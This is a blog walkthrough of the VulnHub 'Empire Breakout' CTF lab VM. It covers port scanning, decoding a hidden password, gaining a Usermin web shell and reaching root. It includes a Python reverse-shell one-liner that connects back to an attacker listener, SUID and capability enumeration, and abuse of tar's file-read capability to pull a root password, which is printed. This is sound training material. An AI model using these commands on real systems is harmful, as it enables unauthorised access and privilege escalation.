Capture the flag (CTF)

EMPIRE BREAKOUT: VulnHub CTF walkthrough

LetsPen Test
April 11, 2022 by
LetsPenTest

We assume that the goal of the capture the flag (CTF) is to gain root access to the target machine. Pre-requisites would be knowledge of Linux commands and the ability to run some basic pentesting tools.

I have also provided a downloadable URL for this CTF here, so you can download the machine and run it on VirtualBox. The torrent downloadable URL is also available for this VM; it's been added in the reference section of this article.

Please note: I have used Oracle Virtual Box to run the downloaded machine for all of these machines. I am using Kali Linux as an attacker machine for solving this CTF. The techniques used are solely for educational purposes, and I am not responsible if the listed techniques are used against any other targets.

What should you learn next?

What should you learn next?

From SOC Analyst to Secure Coder to Security Manager — our team of experts has 12 free training plans to help you hit your goals. Get your free copy now.

The steps

  1. Getting the target machine IP address by Netdiscover utility
  2. Getting open port details by using the Nmap tool
  3. Enumerating HTTP Port 80 with Dirb utility
  4. Enumerating another HTTP port 20000
  5. Taking the Python reverse shell and user privilege escalation

Now, We have all the information that is required. Let us get started with the challenge.The walkthrough

Step 1

After running the downloaded virtual machine in the virtual box, the machine willautomatically be assigned an IP address from the network DHCP. It will be visible on the login screen. The target machine's IP address can be seen in the following screenshot. [CLICK IMAGES TO ENLARGE]

The IP address was visible on the welcome screen of the virtual machine. We used the ping command to check whether the IP was active. The ping response confirmed that this is the target machine IP address. Our target machine IP address that we will be working on throughout this challenge is (the target machine IP address). We will be using as the attacker's IP address.

Note: The target machine IP address may be different in your case, as the network DHCP is assigning it.

Step 2

After getting the target machine's IP address, the next step is to find out the open ports and services available on the machine. We will use the Nmap tool for it, as it works effectively and is by default available on Kali Linux. The results can be seen below:

Command used: << nmap -p- -sV >>

We used the '-p-' option for a full port scan in the Nmap command. It tells Nmap to conduct the scan on all the 65535 ports on the target machine. By default, Nmap conducts the scan only on known 1024 ports. It is especially important to conduct a full port scan during the Pentest or solve the CTF for maximum results.

In the Nmap results, five ports have been identified as open. The port numbers 80, 10000, and 20000 are open and used for the HTTP service. The netbios-ssn service utilizes port numbers 139 and 445. So, two types of services are available to be enumerated on the target machine.

Step 3

Let us start enumerating the target machine by exploring the HTTP service through the default port 80. We opened the target machine IP address on the browser.

As shown in the above screenshot, we got thedefault apache page when we tried to access the IP address on the browser. This means that the HTTP service is enabled on the apache server. However, the webroot might be different, so we need to identify the correct path behind the port to access the web application.

We can employ a web application enumeration tool that uses the default web application directory and file names to brute force against the target system. There are numerous tools available for web application enumeration. We will be using the 'Dirb' tool as it is installed in Kali Linux. The scan command and results can be seen in the following screenshot.

Command used: Dirb

We identified a directory on the target application with the help of a 'Dirb' scan. So, let us open the identified directory 'manual' on the browser, which can be seen below.

This is an apache HTTP server project default website running through the identified folder. We started enumerating the web application and found an interesting hint hidden in the sourceHTML source code. The hint can be seen highlighted in the following screenshot.

In the comments section, user access was given, which was in encrypted form. The identified encrypted password is given below for reference:


We analyzed the encoded string and did some research to find the encoding with the help of the characters used in the string. We identified that these characters are used in the 'brainfuck’ programming language. However, due to the complexity of the language and the use of only special characters, it can be used for encoding purposes. So, wedid a quick search on Google and found an online tool that can be used to decode the message using the 'brainfuck’ algorithm. The online tool is given below.

We needed to copy-paste the encoded string as input, and the tool processed the string to decode the message. Thus obtained, the clear-text password is given below for your reference:


We enumerated the webapplication to discover other vulnerabilities or hints, but nothing else was there. So, we identified a clear-text password by enumerating the HTTP port 80. There are other HTTP ports on the target machine, so in the next step, we will access the target machine through the HTTP port 20000.

Step 4

We opened the target machine IP on the browser through the HTTP port 20000; this can be seen in the following screenshot.

There was a login page available for the 'Usermin' admin panel. 'Usermin' is a web-based interface used to remotely manage and perform various tasks on a Linux server. We need to log in first; however, we have a valid password, but we do not know any username. We decided to enumerate the system for known usernames. There is a default utility known as 'enum4linux' in kali Linux that can be helpful for this task. The command used for the scan and the results can be seen below.Command used: << enum4linux -a >>

A large output has been generated by the tool. We analyzed the output, and during this process, we noticed a username which can be seen in the below screenshot.

Command used: << enum4linux -a >>

So now know the one username and password, and we can either try to login to the web portal or through the SSH port. At first, we tried our luck with the SSH Login, which could not work. Then, we used the credentials to login on to the web portal, which worked, and the login was successful. The 'Usermin' application admin dashboard can be seen in the below screenshot.

The 'usermin' interface allows server access. We clicked on the usermin option to open the web terminal, seen below.

We ran the 'id' command to check the user information. We have terminalaccess as user 'cyber' as confirmed by the output of the 'id' command. We used the ls command to check the current directory contents and found our first flag. The flag file named 'user.txt' is given in the previous image. In the next step, we will be taking the command shell of the target machine.

Step 5

As we have access to the target machine, let us try to obtain reverse shell access by running a crafted python payload. We added the attacker machine IP address and port number to configure the payload, which can be seen below.

python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'

We configured the 'netcat' tool on our attacker machine to receive incoming connections through port 1234. So, let us run the above payload in the target machine terminal and wait for a connection on our attacker machine.

Command used: << nc -lvp 1234 >>

As can be seen in the above screenshot, our attacker machine successfully captured the reverse shell after some time. Let us enumerate the target machine for vulnerabilities.

Command used:• << cat /etc/issue >>
  • << uname -a >>

We ran some commands to identify the operating system and kernel version information. The versions for these can be seen in the above screenshot. We searched the web for an available exploit for these versions, but none could be found. We used the find command to check for weak binaries; the command's output can be seen below.

Command used:

  • << find / -perm -4000 -type f 2>/dev/null >>
  • << getcap -r / 2>/dev/null >>

The green highlight area shows cap_dac_read_search allows reading any files, which means we can use this utility to read any files. First, we tried to read the shadow file that stores all users' passwords. Then, we used John the ripper for cracking the password, but we were not able to crack the password of any user. Then we again spent some time on enumeration and identified apassword file in the backup folder as follows:

Command used: << ls -la >>

We ran 'ls –l' command to list file permissions which says only the root can read and write this file. However, we have already identified a way to read any files, so let us use the tar utility to read the pass file.

Commands used:

  • << ./tar -cf password.tar /var/backups/.old_pass.bak >>
  • << tar -xf password.tar >>

We used the tar utility to read the backup file at a new location which changed the user owner group. Now, we can read the file as user cyber; this is shown in the following screenshot.

Command used: << cat .old_pass.bak >>

We read the' .old_pass.bak' file using the cat command. The password was stored in clear-text form. The identified password is given below for your reference.

Password: Ts&4&YurgtRX(=~h

Command used:

  • << su root >>
  • << cat r00t.txt >>

What should you learn next?What should you learn next?

From SOC Analyst to Secure Coder to Security Manager — our team of experts has 12free training plans to help you hit your goals. Get your free copy now.

We used the su command to switch the current user to root andprovided the identified password. The login was successful as we confirmed the current user by running the 'id' command. We have completed the exploitation part in the CTF; now, let us read the root flag and finish the challenge. The root flag was found in the root directory, as seen in the above screenshot. This completes thechallenge! I hope you enjoyed solving thisrefreshing CTF exercise.



LetsPen Test
LetsPen Test